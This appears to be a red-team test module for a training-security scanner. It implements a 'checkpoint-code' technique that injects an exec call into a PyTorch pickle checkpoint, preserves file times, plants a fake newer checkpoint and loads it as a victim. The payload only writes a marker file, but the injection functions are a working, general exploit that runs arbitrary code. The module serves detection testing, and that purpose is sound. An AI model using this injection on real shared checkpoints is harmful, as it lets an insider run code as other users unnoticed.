"""29, checkpoint code: a checkpoint in pickle runs code of the insider in whatever process loads it.

How an insider does it: an instruction is put in front of the pickle in a shared checkpoint. Its tensors stay what they
are, so whoever loads it goes on as before; the code has run as the victim. The payload here writes a mark.

Precondition: write access to the checkpoints (K), and a job that loads pickles. Expected evidence: `checkpoints` (the
file is not what was saved) before a rank loads it, `loaded` for one that nobody saved, `verify` for one of a run that
has ended; `trainwarden scan` refuses the file as long as it is there. Effect: code of the insider ran, as the victim.
Benign twin: a checkpoint is copied away and put back with the same bytes. Clean-up: checkpoints lie in the copied job.
A job that loads safetensors alone is not open to this.
"""

from __future__ import annotations

import re

from attacks._shared.checkpoints import PUT_BACK, pickle_changed
from attacks._shared.deliver import while_stopped
from trainwarden.redteam.interface import Act, Effect, Evidence, Moment, Technique, Variant, When
from trainwarden.redteam.place import Range

_PROTO = b"\x80\x02"
_MARK = "import os; open({marks!r} + '/as.%d' % os.getpid(), 'a').write('user %d\\n' % os.getuid())"
_LOAD = "import sys, torch; torch.load(sys.argv[1], weights_only=False)"


def poisoned(data: bytes, code: str) -> bytes:
    """A file of torch.save whose pickle runs `code` first and then gives what it gave before."""
    return pickle_changed(data, lambda pickle: with_code(pickle, code))


def with_code(pickle: bytes, code: str) -> bytes:
    """A pickle that calls `exec(code)`, drops the result and goes on.

    Its instructions: GLOBAL, BINUNICODE, TUPLE1, REDUCE, POP (https://docs.python.org/3/library/pickletools.html).
    """
    if not pickle.startswith(_PROTO):
        raise ValueError("not a pickle of protocol 2, which torch.save writes")
    text = code.encode()
    call = b"c__builtin__\nexec\nX" + len(text).to_bytes(4, "little") + text + b"\x85R0"
    return _PROTO + call + pickle[len(_PROTO) :]


def poison_newest(place: Range) -> None:
    """The newest checkpoint gets code; its times are put back."""
    code = _MARK.format(marks=str(place.marks))
    place.edit(place.newest, lambda data: poisoned(data, code), keep_times=True)


def plant(place: Range) -> None:
    """A checkpoint that nobody saved, newer than all, with code."""
    old = place.newest
    step = int(re.findall(r"\d+", old.name)[-1])
    planted = place.copy(old, old.with_name(old.name.replace(f"{step:06d}", f"{step + 1:06d}")))
    code = _MARK.format(marks=str(place.marks))
    place.edit(planted, lambda data: poisoned(data, code))


def load_as_victim(place: Range) -> None:
    """Somebody loads the newest checkpoint, as an evaluation or a colleague does."""
    place.start([str(place.env / "bin" / "python"), "-c", _LOAD, str(place.newest)]).wait()


BY_SCAN = Evidence(When.GATE, "scan", needed=False)  # where the file is still there at the end

TECHNIQUE = Technique(
    id="29",
    slug="checkpoint-code",
    title="a checkpoint holds code that runs when it is loaded",
    alleged=True,
    needs="K",
    atlas="T0018.002",
    variants=(
        Variant(
            name="resumed",
            does="the newest checkpoint gets code, then a kill, so that the ranks load it",
            acts=(while_stopped(poison_newest),),
            expects=(Evidence(When.LIVE, "checkpoints"), BY_SCAN),
            effect=Effect.CODE_RAN,
            needs=("restarts", "pickle"),
        ),
        Variant(
            name="planted",
            does="a checkpoint with code that nobody saved, newer than all, then a kill",
            acts=(while_stopped(plant),),
            expects=(Evidence(When.LIVE, "loaded"), BY_SCAN),
            effect=Effect.CODE_RAN,
            needs=("restarts", "pickle"),
        ),
        Variant(
            name="after-the-end",
            does="the last checkpoint of a run that has ended gets code, and somebody loads it",
            acts=(Act(Moment.END, poison_newest), Act(Moment.END, load_as_victim)),
            expects=(Evidence(When.VERIFY, "checkpoints"), BY_SCAN),
            effect=Effect.CODE_RAN,
            needs=("pickle",),
        ),
    ),
    twin=PUT_BACK,
)
